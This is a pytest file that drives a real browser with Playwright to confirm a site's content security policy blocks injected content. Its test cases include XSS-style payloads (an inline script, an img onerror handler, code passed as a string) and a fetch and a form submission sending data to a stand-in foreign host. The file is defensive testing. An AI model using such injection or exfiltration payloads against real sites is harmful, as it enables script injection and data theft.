"""The content security policy in a real browser: nothing of ours breaks it, and what is not ours is stopped."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

NewContext = Callable[..., BrowserContext]

REPORT = """addEventListener("securitypolicyviolation", (event) =>
    window.okReport([event.effectiveDirective, event.blockedURI, event.sourceFile, event.sample].join(" ")))"""


def listen(context: BrowserContext) -> list[str]:
    """What any page of a context reports as stopped by its policy."""
    reported: list[str] = []
    context.expose_binding("okReport", lambda _source, text: reported.append(text))
    context.add_init_script(REPORT)
    return reported


@pytest.fixture(scope="module")
def victim(browser: Browser, address: str) -> Iterator[tuple[Page, list[str]]]:
    """A page into which something foreign gets, and what it reports. Errors are wanted here."""
    context = browser.new_context()
    reported = listen(context)
    page = context.new_page()
    page.goto(address)
    yield page, reported
    context.close()


@pytest.mark.parametrize(
    ("tag", "values", "directive"),
    [
        pytest.param("script", {"textContent": "window.pwned = 1"}, "script-src-elem inline", id="inline script"),
        pytest.param("script", {"src": "https://example.org/a.js"}, "script-src-elem https://example.org", id="foreign script"),
        pytest.param("div", {"innerHTML": "<img src='data:,' onerror='window.pwned = 1'>"}, "script-src-attr inline", id="inline handler"),
        pytest.param("div", {"innerHTML": "<p style='position: fixed'>"}, "style-src-attr inline", id="style attribute"),
        pytest.param("style", {"textContent": "body { display: none }"}, "style-src-elem inline", id="inline style"),
        pytest.param("img", {"src": "https://example.org/a.png"}, "img-src https://example.org", id="foreign image"),
        pytest.param("iframe", {"src": "https://example.org/"}, "frame-src https://example.org", id="foreign frame"),
        pytest.param("object", {"data": "https://example.org/a.pdf"}, "object-src https://example.org", id="plug-in"),
        pytest.param("base", {"href": "https://example.org/"}, "base-uri https://example.org", id="foreign base"),
    ],
)
def test_what_is_not_ours_is_stopped(victim: tuple[Page, list[str]], tag: str, values: dict[str, str], directive: str) -> None:
    page, reported = victim
    reported.clear()
    page.evaluate("([tag, values]) => document.body.append(Object.assign(document.createElement(tag), values))", [tag, values])
    page.wait_for_timeout(100)
    assert any(one.startswith(directive) for one in reported), reported
    assert page.evaluate("window.pwned") is None


@pytest.mark.parametrize(
    ("script", "directive"),
    [
        pytest.param("() => { setTimeout('window.pwned = 1') }", "script-src eval", id="text as code"),
        pytest.param("() => fetch('https://example.org/?answers').catch(() => {})", "connect-src https://example.org", id="a way out"),
        pytest.param(
            "() => { const form = document.createElement('form'); form.action = 'https://example.org/'; document.body.append(form); form.submit(); }",
            "form-action https://example.org",
            id="a form",
        ),
    ],
)
def test_what_a_script_must_not_do_is_stopped(victim: tuple[Page, list[str]], script: str, directive: str) -> None:
    page, reported = victim
    reported.clear()
    page.evaluate(script)
    page.wait_for_timeout(100)
    assert any(one.startswith(directive) for one in reported), reported
    assert page.evaluate("window.pwned") is None
